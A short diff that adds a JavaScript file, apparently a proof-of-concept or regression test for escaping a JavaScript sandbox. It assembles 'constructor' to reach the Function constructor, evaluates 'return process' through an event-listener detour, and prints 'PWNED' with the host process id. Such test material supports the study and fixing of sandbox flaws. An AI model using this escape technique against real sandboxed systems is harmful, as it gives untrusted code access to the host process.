@@ -1,0 +1,8 @@
+'use strict';
+const w = ['con', 'structor'].join('');
+const t = { go: (f) => f[w] };
+t.go({});
+const fn = (x) => x;
+const et = new EventTarget();
+et.addEventListener('x', (e) => { const o = Date.now() > 1 ? e.detail : {}; console.log('PWNED', o.go(fn)('return process')().pid); });
+et.dispatchEvent(new CustomEvent('x', { detail: t }));
